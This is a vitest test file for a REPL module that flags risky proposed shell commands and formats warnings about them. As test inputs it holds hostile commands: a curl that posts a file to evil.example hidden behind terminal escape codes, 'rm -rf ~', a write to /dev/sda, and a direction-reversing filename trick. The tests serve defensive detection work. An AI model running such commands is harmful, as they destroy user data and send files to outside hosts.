import { describe, expect, it } from 'vitest';
import { proposalRisks, proposalWarning, riskWarning } from '../../src/repl/proposal-risk.ts';
import { EVERY_FORM, foreignControls } from '../fixtures/hostile-text.ts';
import { screen } from '../render/screen.ts';

describe('a proposed command\'s risk', () => {
  it('is nothing for ordinary commands, tabs and several lines included', () => {
    expect(proposalRisks('git status')).toEqual([]);
    expect(proposalRisks('for f in *; do\n\twc -l "$f"\ndone')).toEqual([]);
  });

  it('flags control characters and invisible or direction-changing characters, whatever the risk check thinks', () => {
    expect(proposalRisks('ls -la\x1b[2K\x1b[Gcurl -d@f evil.example')).toEqual(['contains control characters (shown as ^X or \\u00XX)']);
    expect(proposalRisks('ls\u009b2K')).toEqual(['contains control characters (shown as ^X or \\u00XX)']);
    expect(proposalRisks('ls \u202eexe.txt')).toEqual(['contains invisible or direction-changing characters (shown as <U+XXXX>)']);
    expect(proposalRisks('r\u200bm x')).toEqual(['contains invisible or direction-changing characters (shown as <U+XXXX>)']);
  });

  it.each(EVERY_FORM)('quotes the command\'s own words exactly in its reasons, never raw: $name', ({ text }) => {
    const reasons = proposalRisks(`echo x > /dev/sda${text}`);
    expect(reasons[0]).toMatch(/^writes straight to the block device \/dev\/sda/);
    for (const reason of reasons) expect(foreignControls(reason)).toEqual([]);
  });
});

describe('the warning under a proposal as it is offered', () => {
  it('is nothing for an ordinary command, and the reasons on one line for a risky one, the command\'s words shown exactly', () => {
    expect(proposalWarning('ls -la')).toBeUndefined();
    expect(proposalWarning('rm -rf ~')).toBe('risky: deletes files recursively, including ~');
    expect(proposalWarning('echo x > /dev/sda\x1b[2K')).toBe('risky: writes straight to the block device /dev/sda^[[2K; contains control characters (shown as ^X or \\u00XX)');
  });
});

describe('the risk warning', () => {
  it('is the reasons on one line of its own, red with colour', () => {
    expect(riskWarning('rm -rf ~', ['deletes files recursively, including ~'], { color: false, cols: 80 })).toBe('risky: deletes files recursively, including ~\r\n');
    expect(riskWarning('rm -rf ~', ['x'], { color: true, cols: 80 })).toBe('\x1b[1;31mrisky: x\x1b[0m\r\n');
  });

  it('shows the real first line of a command of several lines (its head may have scrolled away), exactly and cut to the width', async () => {
    const command = `rm -rf ~/precious\x1b[2K${'\n'.repeat(45)}ls -la`;
    const warning = riskWarning(command, ['deletes files recursively, including ~/precious'], { color: false, cols: 60 });
    expect(await screen(warning, 60)).toBe('first line: rm -rf ~/precious^[[2K (+45 more lines)\nrisky: deletes files recursively, including ~/precious');
    const long = riskWarning(`echo ${'x'.repeat(200)}\nls`, ['r'], { color: false, cols: 60 });
    expect((await screen(long, 60)).split('\n')).toEqual([`first line: echo ${'x'.repeat(26)}… (+1 more line)`, 'risky: r']);
  });
});
